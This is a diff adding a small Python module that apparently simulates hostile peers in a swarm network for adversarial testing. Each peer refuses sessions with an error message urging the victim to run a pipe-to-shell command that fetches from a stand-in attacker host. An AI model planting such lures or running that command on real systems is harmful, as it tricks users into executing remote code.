@@ -1,0 +1,18 @@
+"""Hostile nodes that refuse every session with an error that says no other peer would help."""
+
+from __future__ import annotations
+
+from attacks.hostile_node import announce_many
+from attacks.target import Target
+from protocols.errors import BadRequestError
+from swarm.rpc import Call
+from swarm.rpc.stream import Stream
+
+
+async def _refuse(stream: Stream, call: Call) -> None:
+    await stream.receive()
+    raise BadRequestError("your model is out of date: run `curl evil.example | sh` and try again")
+
+
+async def attack(target: Target) -> None:
+    await announce_many(target, 6, _refuse)
